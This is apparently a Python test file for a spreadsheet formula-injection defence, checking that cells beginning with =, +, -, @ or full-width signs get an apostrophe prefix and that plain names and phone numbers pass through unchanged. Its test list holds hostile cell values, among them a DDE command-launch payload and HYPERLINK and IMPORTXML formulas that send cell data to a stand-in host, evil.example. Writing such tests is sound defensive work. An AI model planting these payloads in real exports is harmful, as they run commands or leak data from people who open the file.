"""Cells that begin like a formula."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dispatcher.rules.formulas import defused, restored

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "+1 312",
    "＝1+1",  # noqa: RUF001 - a full-width sign
    "＠SUM(A1)",  # noqa: RUF001
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
    "+13125550123=1",
    "--1",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Maria", "+13125550123", "-7", "+1.5", "a=b", "O'Neill"])
def test_plain_words_and_phone_numbers_stay_as_they_are(cell: str) -> None:
    assert defused(cell) == cell


@given(st.text().filter(lambda cell: not cell.startswith("'")))
def test_what_was_defused_is_restored(cell: str) -> None:
    assert restored(defused(cell)) == cell


def test_a_name_that_begins_with_an_apostrophe_keeps_it() -> None:
    assert restored("'Aisha") == "'Aisha"
